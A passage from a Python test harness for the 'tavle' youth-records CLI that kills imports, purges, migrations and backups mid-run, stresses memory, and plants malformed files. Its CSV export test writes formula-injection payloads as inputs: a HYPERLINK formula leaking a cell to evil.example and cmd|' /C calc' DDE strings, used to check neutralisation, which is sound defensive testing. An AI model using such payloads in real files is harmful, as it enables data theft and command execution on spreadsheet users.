    figure("CSV import: mutated spreadsheets through the binary", n)
    figure("CSV import: exit codes", ", ".join(f"{k}: {v}" for k, v in sorted(codes.items())))
    result(not crashes, f"CSV import: {n} mutated files (--dry-run): exit 0/1/2 only, no raw control bytes", "; ".join(crashes[:3]))


# ---------------------------------------------------------------------------------------------
# Issue 28, finding 4: the spreadsheet import is all or nothing, whatever stops it.

def import_csv(path, rows, tag):
    with open(path, "w", encoding="utf-8") as f:
        f.write("navn;født;kontakt\n")
        for i in range(rows):
            f.write(f"Import {tag} {i:05d};01.02.2010;ole\n")


def imported(d, tag):
    n = 0
    for f in youth_files(d):
        try:
            if json.loads(read(os.path.join(d, "youths", f))).get("name", "").startswith(f"Import {tag} "):
                n += 1
        except (OSError, ValueError):
            pass
    return n


def import_kills(tavle, template, work, rounds, rows, big_rows):
    import shutil
    rnd = random.Random(int(os.environ.get("REL_SEED", "6")))
    csv = os.path.join(work, "import.csv")
    import_csv(csv, rows, "Person")
    # How long a whole import takes here: the kills are spread over it.
    d = os.path.join(work, "import-timing")
    shutil.rmtree(d, ignore_errors=True)
    shutil.copytree(template, d, symlinks=True)
    t0 = time.time()
    r = run([tavle, "--data", d, "import", csv], timeout=300)
    span = time.time() - t0
    figure(f"import: {rows} rows take", f"{span:.1f} s")
    if r.returncode != 0 or imported(d, "Person") != rows:
        result(False, "import: a whole import works", r.stderr.decode(errors="replace"))
        return
    problems, outcomes = [], {"none": 0, "all": 0, "finished by the next reader": 0}
    cases = [("SIGKILL", rnd.uniform(0.05, 1.0) * span) for _ in range(rounds)]
    # The review's case: an SSH session dropped (SIGHUP) 1 s into an import of 2,000 rows.
    big = os.path.join(work, "import-big.csv")
    import_csv(big, big_rows, "Big")
    cases.append(("SIGHUP", 1.0))
    # And at the steps that matter (strace): the commit point (the manifest's rename, the first
    # renameat), after the journal append (the first record's rename), half-way through the
    # records, at the last, and at the manifest's removal.
    for k in (1, 2, 3, rows // 2, rows + 1):
        cases.append(("strace renameat", k))
    cases.append(("strace unlinkat", 1))
    for i, (sig, delay) in enumerate(cases):
        d = os.path.join(work, f"import-kill{i}")
        shutil.rmtree(d, ignore_errors=True)
        shutil.copytree(template, d, symlinks=True)
        f, tag, n = (big, "Big", big_rows) if sig == "SIGHUP" else (csv, "Person", rows)
        what = f"{sig} #{delay}" if sig.startswith("strace") else f"{sig} after {delay:.2f} s"
        if sig.startswith("strace"):
            call = sig.split()[1]
            run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject={call}:signal=SIGKILL:when={delay}",
                 tavle, "--data", d, "import", f], timeout=300)
        else:
            p = subprocess.Popen([tavle, "--data", d, "import", f], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(delay)
            p.send_signal(signal.SIGKILL if sig == "SIGKILL" else signal.SIGHUP)
            p.wait()
        on_disk = imported(d, tag)
        pending = os.path.exists(os.path.join(d, "tmp", "transaction.commit"))
        if on_disk not in (0, n) and not pending:
            problems.append(f"{what}: {on_disk} of {n} rows imported and nothing to finish them")
        # The next reader that can write finishes a committed import; then it is all or nothing.
        lst = run([tavle, "--data", d, "list", "--json"])
        try:
            shown = sum(1 for y in json.loads(lst.stdout) if y.get("name", "").startswith(f"Import {tag} "))
        except ValueError:
            shown = -1
        after = imported(d, tag)
        if shown not in (0, n) or after != shown:
            problems.append(f"{what}: list shows {shown} of {n} (files: {after})")
        c = run([tavle, "--data", d, "check"])
        if c.returncode != 0:
            problems.append(f"{what}: check: {c.stdout.decode(errors='replace')[:300]}")
        # Running the same file again: completes it when nothing went in, refuses duplicates when all did.
        again = run([tavle, "--data", d, "import", f], timeout=300)
        final = imported(d, tag)
        if after == 0 and (again.returncode != 0 or final != n):
            problems.append(f"{what}: the rerun exit {again.returncode}, {final} of {n}: {again.stderr.decode(errors='replace')[:200]}")
        if after == n and (again.returncode != 2 or final != n):
            problems.append(f"{what}: the rerun of a complete import exit {again.returncode}, {final} of {n}")
        if run([tavle, "--data", d, "check"]).returncode != 0:
            problems.append(f"{what}: check after the rerun is not clean")
        outcomes["none" if after == 0 else ("finished by the next reader" if on_disk != n else "all")] += 1
        shutil.rmtree(d, ignore_errors=True)
    figure("import: imports killed (kill -9 at random, SIGHUP after 1 s of 2,000 rows, strace at renameat/unlinkat)", len(cases))
    figure("import: outcomes", ", ".join(f"{k} {v}" for k, v in outcomes.items()))
    result(not problems, f"import: {len(cases)} imports killed (kill -9, SIGHUP): all rows or none, a rerun completes, check clean",
           "; ".join(problems[:4]))


# ---------------------------------------------------------------------------------------------
# Issue 28, findings 13 and 14: a journal past 1 GiB, and what the heavy commands hold in memory.

def big_journal(d, megabytes, youth="sofie"):
    """Grows the journal to `megabytes` with real changes to one youth's goals (about 8 KB each),
    and writes the youth's file to match, so the directory stays consistent (`check` clean)."""
    path = os.path.join(d, "youths", youth + ".json")
    y = json.loads(read(path))
    v = y["version"]
    jpath = os.path.join(d, "journal.jsonl")
    size = os.path.getsize(jpath)
    goal = megabytes * 1024 * 1024
    old = y.get("goals", "")
    n = 0
    head = chain_head(jpath)
    with open(jpath, "ab") as f:
        while size < goal:
            v += 1
            n += 1
            new = f"Mål {n}: " + ("skole og venner, søvn og mat. " * 280)
            e = {"schema": 1, "at": "2026-11-20T10:00:00+01:00", "staff": "ole", "user": "ole", "target": "youth", "id": youth,
                 "version": v, "action": "set goals", "changes": [{"field": "goals", "op": "set", "old": old, "new": new}]}
            line, head = seal(json.dumps(e, ensure_ascii=False, sort_keys=True, separators=(",", ":")).encode(), head)
            line += b"\n"
            f.write(line)
            size += len(line)
            old = new
    y["goals"] = old
    y["version"] = v
    y.setdefault("fieldVersions", {})["goals"] = v
    y.setdefault("fieldAuthors", {})["goals"] = "ole"
    with open(path, "w", encoding="utf-8") as f:
        json.dump(y, f, ensure_ascii=False, indent=2, sort_keys=True)
    idx = os.path.join(d, "index.json")
    if os.path.exists(idx):
        os.unlink(idx)
    return n


def memory(tavle, d, megabytes, limit_mb, work):
    added = big_journal(d, megabytes)
    size = os.path.getsize(os.path.join(d, "journal.jsonl"))
    figure("memory: journal size", f"{size / 1024 / 1024:.0f} MB ({added} changes of about 8 KB added to one youth)")
    # Each command alone, under /usr/bin/time -v: its peak resident memory.
    # `log ID` twice: the first reads the journal through and writes its offsets, the second goes
    # by them, and must stream the youth's own history (all of the grown journal) as well.
    cmds = [("check", ["check"]), ("log", ["log"]), ("log ID", ["log", "sofie"]), ("log ID by its offsets", ["log", "sofie"]),
            ("stats", ["stats"]), ("purge --dry-run", ["purge", "--dry-run"]), ("backup", ["backup", os.path.join(work, "big.backup")]),
            ("list", ["list"])]
    # `log --json` streams as `log` does; on a debug build it takes minutes here, so only on request.
    if os.environ.get("REL_MEM_JSON"):
        cmds.insert(3, ("log --json", ["log", "--json"]))
    problems = []
    offsets, inode = os.path.join(d, "journal.offsets"), None
    for label, argv in cmds:
        t0 = time.time()
        r = run(["/usr/bin/time", "-v", tavle, "--data", d] + argv, timeout=1800)
        # The second `log ID` must go by the offsets the first wrote (a scan writes them anew).
        if label == "log ID":
            inode = os.stat(offsets).st_ino if os.path.exists(offsets) else None
        if label == "log ID by its offsets" and (inode is None or not os.path.exists(offsets) or os.stat(offsets).st_ino != inode):
            problems.append("log ID by its offsets: the journal was read through again (journal.offsets rewritten or missing)")
        secs = time.time() - t0
        m = re.search(rb"Maximum resident set size \(kbytes\): (\d+)", r.stderr)
        mb = int(m.group(1)) / 1024 if m else -1
        figure(f"memory: peak RSS of `{label}` on it", f"{mb:.0f} MB in {secs:.0f} s")
        if r.returncode != 0:
            problems.append(f"{label}: exit {r.returncode}: {r.stderr.decode(errors='replace')[-300:]}")
        if mb < 0 or mb > limit_mb:
            problems.append(f"{label}: peak {mb:.0f} MB (limit {limit_mb} MB)")
    result(not problems, f"memory: {', '.join(c[0] for c in cmds)} on a {size // (1 << 20)} MB journal each exit 0 with a peak RSS of at most {limit_mb} MB",
           "; ".join(problems[:4]))
    # The backup holds the whole journal, and restores byte for byte.
    b = os.path.join(work, "big.backup")
    r = run([tavle, "--data", os.path.join(work, "big-restored"), "restore", b], timeout=1800)
    same = r.returncode == 0 and sha(os.path.join(work, "big-restored", "journal.jsonl")) == sha(os.path.join(d, "journal.jsonl"))
    result(same, f"backup: a journal of {size // (1 << 20)} MB (past 1 GiB) is backed up and restored byte for byte",
           f"restore exit {r.returncode}: {r.stderr.decode(errors='replace')[-300:]}")
    import shutil
    shutil.rmtree(os.path.join(work, "big-restored"), ignore_errors=True)
    try:
        os.unlink(b)
    except OSError:
        pass


# ---------------------------------------------------------------------------------------------
# Issue 28: the store under attack and accident (one case or more per finding).


# The hash chain of the journal and the access log (Sources/TavleCore/Store/Chain.swift): a line
# planted by a case is sealed as tavle would seal it, so the directory stays consistent.
SEAL_PREFIX = b',"seal":"'


def chain_split(line):
    if len(line) > 75 and line[-75:-66] == SEAL_PREFIX and line[-2:] == b'"}' and all(c in b"0123456789abcdef" for c in line[-66:-2]):
        return line[:-75] + b"}", line[-66:-2].decode()
    return None


def chain_head(path):
    """What the next line of the log at `path` must follow (Chain.Walker's head)."""
    head, sealed, prefix = "", False, hashlib.sha256()
    if not os.path.exists(path):
        return head
    for line in read(path).split(b"\n")[:-1]:
        s = chain_split(line)
        if s is None:
            if sealed:
                head = hashlib.sha256(head.encode() + b"\n" + line).hexdigest()
            else:
                prefix.update(line + b"\n")
                head = prefix.hexdigest()
        else:
            sealed, head = True, s[1]
    return head


def seal(content, head):
    """`content` (one JSON object, bytes, no newline) sealed after `head`: (line, new head)."""
    h = hashlib.sha256(head.encode() + b"\n" + content).hexdigest()
    return content[:-1] + SEAL_PREFIX + h.encode() + b'"}', h


def plant_change(d, target, rid, changes, action="set"):
    """Appends a journal entry for `changes` and applies them to the record's file, as tavle
    would (version + 1, field versions), so the directory stays consistent."""
    path = os.path.join(d, "team.json") if target == "team" else os.path.join(d, "youths", rid + ".json")
    obj = json.loads(read(path))
    v = obj["version"] + 1
    for c in changes:
        if c["op"] == "set":
            c.setdefault("old", obj.get(c["field"]))
            if c["old"] is None:
                c.pop("old")
            obj[c["field"]] = c["new"]
        else:
            obj[c["field"]] = obj.get(c["field"], []) + c["new"]
        if target == "youth":
            obj.setdefault("fieldVersions", {})[c["field"]] = v
            obj.setdefault("fieldAuthors", {})[c["field"]] = "ingrid"
    obj["version"] = v
    e = {"schema": 1, "at": "2026-11-20T10:00:00+01:00", "staff": "ingrid", "user": "ingrid", "target": target, "id": rid,
         "version": v, "action": action, "changes": changes}
    jpath = os.path.join(d, "journal.jsonl")
    line, _ = seal(json.dumps(e, ensure_ascii=False, sort_keys=True, separators=(",", ":")).encode(), chain_head(jpath))
    with open(jpath, "ab") as f:
        f.write(line + b"\n")
    with open(path, "w", encoding="utf-8") as f:
        json.dump(obj, f, ensure_ascii=False, indent=2, sort_keys=True)
    idx = os.path.join(d, "index.json")
    if os.path.exists(idx):
        os.unlink(idx)


def fresh_copy(template, work, name):
    import shutil
    d = os.path.join(work, name)
    shutil.rmtree(d, ignore_errors=True)
    shutil.copytree(template, d, symlinks=True)
    return d


def lock_removal(tavle, template, work, writers, notes):
    """Finding 1: `rm -f lock` (and a new file put in its place) in a loop beside writers."""
    import threading
    d = fresh_copy(template, work, "lock-removal")
    lock = os.path.join(d, "lock")
    stop = threading.Event()
    removals = [0]

    def remover():
        i = 0
        while not stop.is_set():
            try:
                if i % 2:
                    os.unlink(lock)
                else:
                    tmp = lock + ".new"
                    os.close(os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600))
                    os.rename(tmp, lock)
                removals[0] += 1
            except OSError:
                pass
            i += 1
            time.sleep(0.002)

    def writer(p, out):
        for i in range(notes):
            y = ["sofie", "noah"][i % 2]
            text = f"lockrm {p}-{i}"
            r = run([tavle, "--data", d, "note", y, text])
            out.append((y, text, r.returncode, r.stderr.decode(errors="replace")))

    t = threading.Thread(target=remover)
    t.start()
    logs = [[] for _ in range(writers)]
    ths = [threading.Thread(target=writer, args=(p, logs[p])) for p in range(writers)]
    for th in ths:
        th.start()
    for th in ths:
        th.join()
    stop.set()
    t.join()
    ok = [x for log in logs for x in log if x[2] == 0]
    failed = [x for log in logs for x in log if x[2] != 0]
    texts = {}
    for y in ("sofie", "noah"):
        texts[y] = {n.get("text") for n in json.loads(read(os.path.join(d, "youths", y + ".json"))).get("notes", [])}
    lost = [x for x in ok if x[1] not in texts[x[0]]]
    entries, _, _ = journal_entries(d)
    seen, twice = set(), []
    for e in entries:
        k = (e["target"], e["id"], e["version"])
        if k in seen:
            twice.append(k)
        seen.add(k)
    c = run([tavle, "--data", d, "check"])
    figure("lock removal: writes beside a loop removing or replacing `lock`", f"{len(ok) + len(failed)} ({removals[0]} removals)")
    result(not lost and not twice and not failed and c.returncode == 0,
           f"lock removal: {writers} writers × {notes} notes while `lock` is removed or replaced in a loop: every write saved once, no version journaled twice, check clean",
           f"{len(lost)} saved notes lost, {len(twice)} versions twice {twice[:3]}, {len(failed)} failed {[x[3][:100] for x in failed[:2]]}, check {c.returncode}: {c.stdout.decode(errors='replace')[:200]}")


def numbers(tavle, template, work):
    """Finding 3: one number out of range crashed tavle with a Swift trap."""
    plants = [("team.json", "targetBoardShare", 1e308, ["list", "due", "stats", "board"]),
              ("team.json", "boardShareWarning", -0.5, ["list"]),
              ("team.json", "meetingMinutes", 9223372036854775807, ["meeting status", "meeting start", "list"]),
              ("team.json", "retentionMonths", 9223372036854775807, ["purge --dry-run", "list"]),
              ("team.json", "rules.boardPeriodDays", 9223372036854775807, ["list", "intensive thea --reason crisis"]),
              ("youths/sofie.json", "version", 9223372036854775807, ["note sofie x", "show sofie", "status sofie stable"]),
              ("youths/sofie.json", "fieldVersions.status", -1, ["show sofie"])]
    problems, n = [], 0
    for rel, key, value, cmds in plants:
        d = fresh_copy(template, work, "numbers")
        path = os.path.join(d, rel)
        obj = json.loads(read(path))
        target = obj
        parts = key.split(".")
        for k in parts[:-1]:
            target = target.setdefault(k, {})
        target[parts[-1]] = value
        with open(path, "w") as f:
            json.dump(obj, f, indent=2)
        before = sha(path)
        for c in cmds:
            n += 1
            r = run([tavle, "--data", d] + c.split(), timeout=20)
            err = r.stderr.decode(errors="replace")
            if r.returncode != 2 or os.path.basename(rel) not in err or parts[-1] not in err:
                problems.append(f"{key}={value}: `{c}` exit {r.returncode}: {err[:120]!r}")
        if sha(path) != before:
            problems.append(f"{rel} was written back")
    # A number a user types that would overflow a sum: refused.
    d = fresh_copy(template, work, "numbers")
    run([tavle, "--data", d, "meeting", "start"])
    for _ in range(2):
        r = run([tavle, "--data", d, "meeting", "discuss", "sofie", "--seconds", "9223372036854775807"])
        n += 1
        if r.returncode not in (1, 2):
            problems.append(f"meeting discuss --seconds Int64.max: exit {r.returncode}")
    r = run([tavle, "--data", d, "meeting", "status"])
    if r.returncode != 0:
        problems.append(f"meeting status after: exit {r.returncode}")
    figure("numbers: out-of-range values × commands", n)
    result(not problems, f"numbers: {n} commands on files with a number out of range (1e308, Int64.max, negative): exit 2 naming the file and field, never a trap, never written back",
           "; ".join(problems[:4]))


def check_beside_writers(tavle, template, work, checks):
    """Finding 5: `tavle check` beside two writers must raise no false alarm."""
    d = fresh_copy(template, work, "check-writers")
    procs = [subprocess.Popen(["bash", "-c", f'for i in $(seq 400); do "$0" --data "$1" note {y} "w $i" >/dev/null 2>&1; done', tavle, d])
             for y in ("sofie", "noah")]
    time.sleep(0.3)
    alarms, runs = [], 0
    while runs < checks and all(p.poll() is None for p in procs):
        r = run([tavle, "--data", d, "check"])
        runs += 1
        if r.returncode != 0:
            alarms.append(r.stdout.decode(errors="replace").splitlines()[1:2])
    for p in procs:
        p.kill()
        p.wait()
    c = run([tavle, "--data", d, "check"])
    figure("check beside two writers: runs", runs)
    result(runs >= 10 and not alarms and c.returncode == 0,
           f"check: {runs} runs beside two writers: no false alarm (what looks wrong is read again under the lock)",
           f"{len(alarms)} false alarms: {alarms[:3]}")
    # Still finds a real disagreement.
    d = fresh_copy(template, work, "check-real")
    path = os.path.join(d, "youths", "thea.json")
    obj = json.loads(read(path))
    obj["warning"] = "changed by hand"
    with open(path, "w") as f:
        json.dump(obj, f, indent=2)
    r = run([tavle, "--data", d, "check"])
    result(r.returncode == 2 and b"thea.json" in r.stdout and b"warning" in r.stdout,
           "check: a file changed by hand is still reported (under the lock)", r.stdout.decode(errors="replace")[:200])


def fifos(tavle, template, work):
    """Finding 6: a FIFO planted as journal.jsonl or access.jsonl must not hang tavle."""
    problems = []
    d = fresh_copy(template, work, "fifo")
    os.rename(os.path.join(d, "journal.jsonl"), os.path.join(d, "journal.saved"))
    os.mkfifo(os.path.join(d, "journal.jsonl"))
    t0 = time.time()
    r = run([tavle, "--data", d, "note", "sofie", "into a fifo"], timeout=8)
    if r.returncode in (0, -999) or b"journal.jsonl" not in r.stderr:
        problems.append(f"journal FIFO: note exit {r.returncode} after {time.time() - t0:.1f} s: {r.stderr[:150]!r}")
    t1 = time.time()
    r = run([tavle, "--data", d, "note", "noah", "next writer"], timeout=8)
    if r.returncode == -999 or b"lock" in r.stderr or time.time() - t1 > 5:
        problems.append(f"journal FIFO: the next writer waited for the lock: exit {r.returncode} {r.stderr[:150]!r}")
    d = fresh_copy(template, work, "fifo")
    os.mkfifo(os.path.join(d, "access.jsonl"))
    r = run([tavle, "--data", d, "show", "sofie"], timeout=8)
    if r.returncode == -999:
        problems.append("access-log FIFO: show hung")
    r = run([tavle, "--data", d, "log", "--access"], timeout=8)
    if r.returncode == -999:
        problems.append("access-log FIFO: log --access hung")
    result(not problems, "FIFO as journal.jsonl / access.jsonl: writers fail at once naming it, the lock is free, readers never hang",
           "; ".join(problems[:3]))


def size_limit(tavle, template, work):
    """Finding 7: a note that would take a youth past 16 MiB is refused before it is written."""
    d = fresh_copy(template, work, "size-limit")
    path = os.path.join(d, "youths", "thea.json")
    big = "y" * (16 * 1024 * 1024 - os.path.getsize(path) - 200_000)
    plant_change(d, "youth", "thea", [{"field": "notes", "op": "append",
                                       "new": [{"id": "big1", "at": "2026-11-20T10:00:00+01:00", "author": "ole", "kind": "note", "text": big}]}],
                 action="note")
    chunk = "x" * 120_000
    outcomes = []
    for _ in range(3):
        before = sha(path)
        r = run([tavle, "--data", d, "note", "thea", chunk])
        outcomes.append(r.returncode)
        if r.returncode != 0:
            unchanged = sha(path) == before
            break
    s = run([tavle, "--data", d, "show", "thea"])
    c = run([tavle, "--data", d, "check"])
    ok = outcomes[-1] == 2 and unchanged and s.returncode == 0 and c.returncode == 0 and os.path.getsize(path) <= 16 * 1024 * 1024
    result(ok, "size limit: a note that would take a youth's file past 16 MiB is refused (exit 2), nothing written; show and check still work",
           f"note exits {outcomes}, show {s.returncode}, check {c.returncode}: {c.stdout.decode(errors='replace')[:150]}")


def csv_formulas(tavle, template, work):
    """Finding 8: CSV export must not hand a spreadsheet a live formula (CWE-1236)."""
    import csv as csvmod, io
    d = fresh_copy(template, work, "csv-formulas")
    r = run([tavle, "--data", d, "add", "--name", '=HYPERLINK("http://evil.example/?"&A1,"Klikk") Hansen', "--born", "2010-01-01"])
    yid = r.stdout.decode().strip()
    run([tavle, "--data", d, "set", yid, "warning", "+cmd|' /C calc'!A0"])
    run([tavle, "--data", d, "set", "noah", "warning", "@SUM(1+1)*cmd|' /C calc'!A0"])
    run([tavle, "--data", d, "set", "sofie", "warning", "--", "-2+3+cmd|' /C calc'!A0"])
    live, cells = [], 0
    for lang, sep in (("nb", ";"), ("en", ",")):
        for names in ([], ["--names"]):
            out = run([tavle, "--data", d, "--lang", lang, "export", "--format", "csv"] + names).stdout.decode()
            for row in csvmod.reader(io.StringIO(out), delimiter=sep):
                for cell in row:
                    cells += 1
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        live.append(cell[:40])
    result(cells > 200 and not live, f"CSV export: {cells} cells (nb/en, with and without --names), none starts a formula (= + - @ tab CR)",
           f"live formulas: {live[:4]}")


def purge_kills(tavle, template, work):
    """Finding 9: purge killed at each of its removals, or failing its last fsync."""
    problems, steps = [], 0
    shim = os.path.join(work, "faultshim.so")

    def purgeable(name):
        d = fresh_copy(template, work, name)
        plant_change(d, "youth", "oskar", [{"field": "phase", "op": "set", "new": "discharged"},
                                           {"field": "discharged", "op": "set", "new": "2025-09-01"}], action="discharge")
        run([tavle, "--data", d, "list"])          # an index holding Oskar's name
        return d

    def holding(d):
        out = []
        for root, _, files in os.walk(d):
            for f in files:
                try:
                    if b"Brekke" in read(os.path.join(root, f)):
                        out.append(os.path.relpath(os.path.join(root, f), d))
                except OSError:
                    pass
        return sorted(out)

    for k in range(1, 12):
        d = purgeable(f"purge-kill{k}")
        r = run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject=unlinkat,unlink:signal=SIGKILL:when={k}",
                 tavle, "--data", d, "purge", "--yes", "oskar"])
        done = r.returncode == 0
        if not done:
            steps += 1
        purged = b'"action":"purge"' in read(os.path.join(d, "journal.jsonl"))
        left = holding(d)
        if purged and "index.json" in left:
            problems.append(f"killed at removal #{k}: the journal is purged but index.json still holds the name")
        c = run([tavle, "--data", d, "check"])
        if purged and "youths/oskar.json" in left and (c.returncode != 2 or b"oskar.json" not in c.stdout):
            problems.append(f"killed at removal #{k}: check does not name the purged youth's file left behind")
        run([tavle, "--data", d, "note", "noah", f"after purge kill {k}"])
        run([tavle, "--data", d, "list"])
        if purged and holding(d):
            problems.append(f"killed at removal #{k}: after the next writer the name is still in {holding(d)}")
        if run([tavle, "--data", d, "check"]).returncode != 0:
            problems.append(f"killed at removal #{k}: check not clean after the next writer")
        if done:
            break
    figure("purge: purges killed at a file removal (strace)", steps)
    # The final fsync fails: the message must say the purge happened.
    d = purgeable("purge-fsync")
    r = run([tavle, "--data", d, "purge", "--yes", "oskar"], env=dict(os.environ, LD_PRELOAD=shim, TAVLE_FAULT=f"fsync:EIO:{d}/youths"))
    err = r.stderr.decode(errors="replace")
    if r.returncode != 4 or "Nothing was changed" in err or "Do not make the change again" not in err:
        problems.append(f"fsync of youths/ failing: exit {r.returncode}, says: {err[:200]}")
    if holding(d):
        problems.append(f"fsync of youths/ failing: the name is still in {holding(d)}")
    result(not problems and steps >= 3, f"purge: killed at each of {steps} file removals and with its last fsync failing: the index never keeps a purged name, messages tell the truth, the next writer finishes, check clean",
           "; ".join(problems[:4]))


def migrate_kills(tavle, fixture, work, rounds):
    """Finding 10: an interrupted migrate and its rerun must never overwrite the backup of the
    directory as it was before any upgrade."""
    import shutil, pwd
    me = pwd.getpwuid(os.geteuid()).pw_name
    tpl = os.path.join(work, "schema1")
    shutil.rmtree(tpl, ignore_errors=True)
    shutil.copytree(fixture, tpl)
    os.chmod(tpl, 0o700)
    os.makedirs(os.path.join(tpl, "tmp"), mode=0o700, exist_ok=True)
    for root, dirs, files in os.walk(tpl):
        for x in dirs:
            os.chmod(os.path.join(root, x), 0o700)
        for x in files:
            os.chmod(os.path.join(root, x), 0o600)
    team = json.loads(read(os.path.join(tpl, "team.json")))
    staff = team["staff"]
    for m in staff:
        if m["id"] == "ingrid":
            m["unixUsers"] = m["unixUsers"] + [me]
    plant_change(tpl, "team", "team", [{"field": "staff", "op": "set", "new": staff}], action="staff unix-user")
    originals = {rel: sha(os.path.join(tpl, rel)) for rel in ["team.json"] + ["youths/" + f for f in youth_files(tpl)]}
    t0 = time.time()
    d = fresh_copy(tpl, work, "migrate-timing")
    run([tavle, "--data", d, "migrate"])
    span = max(time.time() - t0, 0.05)
    rnd = random.Random(int(os.environ.get("REL_SEED", "6")))
    cases = [("random", rnd.uniform(0.1, 1.0) * span) for _ in range(rounds)] + [("fsync", k) for k in range(1, 9)]
    problems, interrupted = [], 0
    for i, (how, arg) in enumerate(cases):
        d = fresh_copy(tpl, work, f"migrate{i}")
        if how == "random":
            p = subprocess.Popen([tavle, "--data", d, "migrate"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(arg)
            p.kill()
            p.wait()
            killed = p.returncode != 0
        else:
            r = run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject=fsync:signal=SIGKILL:when={arg}", tavle, "--data", d, "migrate"])
            killed = r.returncode != 0
        interrupted += 1 if killed else 0
        again = run([tavle, "--data", d, "migrate"])
        if again.returncode != 0:
            problems.append(f"{how} {arg}: the rerun exit {again.returncode}: {again.stderr.decode(errors='replace')[:150]}")
            continue
        bdir = os.path.join(d, "backups")
        def order(n):
            m = re.search(r"\d{4}-\d\d-\d\d(?:-(\d+))?\.json$", n)
            return int(m.group(1) or 1) if m else 0
        backups = sorted(os.listdir(bdir), key=order) if os.path.isdir(bdir) else []
        if not backups:
            problems.append(f"{how} {arg}: no backup at all")
            continue
        back = os.path.join(work, f"migrate-back{i}")
        shutil.rmtree(back, ignore_errors=True)
        rr = run([tavle, "--data", back, "restore", os.path.join(bdir, backups[0])])
        got = {rel: sha(os.path.join(back, rel)) for rel in originals}
        if rr.returncode != 0 or got != originals:
            problems.append(f"{how} {arg}: the first backup ({backups[0]} of {backups}) is not the directory before the upgrade")
        if run([tavle, "--data", d, "check"]).returncode != 0:
            problems.append(f"{how} {arg}: check not clean after the rerun")
        shutil.rmtree(back, ignore_errors=True)
        shutil.rmtree(d, ignore_errors=True)
    figure("migrate: runs interrupted (kill -9 at random, strace at each fsync) and run again", f"{interrupted} of {len(cases)}")
    result(not problems and interrupted >= 5, f"migrate: {interrupted} interrupted runs, each run again: the first backup always restores the directory as it was before any upgrade, check clean",
           "; ".join(problems[:4]))


def shared(tavle, template, work):
    """Finding 11: --shared is honoured by the board or refused, never ignored."""
    d = fresh_copy(template, work, "shared")
    before = sha(os.path.join(d, "journal.jsonl"))
    problems, n = [], 0
    for c in ["--shared list", "list --shared", "--shared list --json", "--shared due", "--shared today", "--shared show sofie",
              "--shared show sofie --all", "--shared export --format csv --names", "--shared log", "--shared stats",
              "--shared staff list", "note --shared sofie x", "--shared meeting status"]:
        n += 1
        r = run([tavle, "--data", d] + c.split())
        if r.returncode != 1 or b"Sofie Bakke" in r.stdout + r.stderr:
            problems.append(f"`{c}`: exit {r.returncode}, full name shown: {b'Sofie Bakke' in r.stdout}")
    r = run([tavle, "--data", d, "--shared"])
    if r.returncode != 0 or b"Sofie Bakke" in r.stdout or b"SB" not in r.stdout:
        problems.append(f"`tavle --shared` on a pipe: exit {r.returncode}")
    if sha(os.path.join(d, "journal.jsonl")) != before:
        problems.append("something was written")
    result(not problems, f"--shared: {n} commands other than the board refuse it (exit 1), showing no name; the board honours it",
           "; ".join(problems[:4]))


def meeting_clock(tavle, template, work):
    """Finding 14 (last part): a clock behind the meeting's start gives no negative time."""
    d = fresh_copy(template, work, "meeting-clock")
    run([tavle, "--data", d, "meeting", "start", "--minutes", "15"], env=dict(os.environ, TAVLE_NOW="2026-11-22T09:00:00+01:00"))
    r = run([tavle, "--data", d, "meeting", "status", "--json"], env=dict(os.environ, TAVLE_NOW="2026-11-22T07:45:00+01:00"))
    try:
        t = json.loads(r.stdout)["time"]
    except (ValueError, KeyError):
        t = {}
    result(t.get("elapsed") == 0 and t.get("remaining") == 900, "meeting clock: a clock 75 minutes behind the start shows 0 elapsed and 15:00 left, never 90:00",
           str(t))


def duplicate_key_line(tavle, template, work):
    """Finding 15: a journal line with a key twice is unreadable, and check says so."""
    d = fresh_copy(template, work, "dup-key")
    run([tavle, "--data", d, "set", "thea", "warning", "real"])
    path = os.path.join(d, "journal.jsonl")
    lines = read(path).split(b"\n")
    lines[-2] = lines[-2].replace(b'"field":"warning"', b'"field":"warning","field":"goals"', 1)
    with open(path, "wb") as f:
        f.write(b"\n".join(lines))
    c = run([tavle, "--data", d, "check"])
    result(c.returncode == 2 and b"journal.jsonl" in c.stdout and b"twice" in c.stdout,
           "journal: a line with a key twice in one object is unreadable and named by check", c.stdout.decode(errors="replace")[:200])


def whole_backup(path):
    """Whether a backup file is complete: a tavle backup's start and the archive's closing `]}`."""
    with open(path, "rb") as f:
        head = f.read(40)
        f.seek(max(0, os.path.getsize(path) - 2))
        tail = f.read()
    return head.startswith(b'{"kind":"tavle-backup"') and tail == b"]}"


def backup_killed(tavle, d, work, kills):
    """Finding 13: a killed backup leaves nothing beside its target."""
    rnd = random.Random(int(os.environ.get("REL_SEED", "6")))
    out = os.path.join(work, "killed-backups")
    os.makedirs(out, exist_ok=True)
    problems = []
    for i in range(kills):
        target = os.path.join(out, f"b{i}.json")
        p = subprocess.Popen([tavle, "--data", d, "backup", target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(rnd.uniform(0.5, 6.0))
        p.kill()
        p.wait()
        left = [x for x in os.listdir(out) if x != f"b{i}.json"]
        # Killed after its file was published (it then logs the read and exits), a backup is whole:
        # only a part of one may never appear under the name.
        if p.returncode != 0 and os.path.exists(target) and not whole_backup(target):
            problems.append(f"kill {i}: a killed backup left a partial {target}")
        if left:
            problems.append(f"kill {i}: left {left}")
        if os.path.exists(target):
            os.unlink(target)
    result(not problems, f"backup: {kills} backups of a journal past 1 GiB killed part-way leave nothing beside the target",
           "; ".join(problems[:3]))


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "concurrency":
        concurrency(*args)
    elif cmd == "crash-random":
        crash_random(args[0], args[1], int(args[2]))
    elif cmd == "crash-steps":
        crash_steps(*args)
    elif cmd == "malformed":
        malformed(args[0], args[1], args[2], args[3] == "1")
    elif cmd == "inject-check":
        inject_check(args)
    elif cmd == "csv-mutate":
        csv_mutate(args[0], args[1], args[2], int(args[3]))
    elif cmd == "import-kills":
        import_kills(args[0], args[1], args[2], int(args[3]), int(args[4]), int(args[5]))
    elif cmd == "memory":
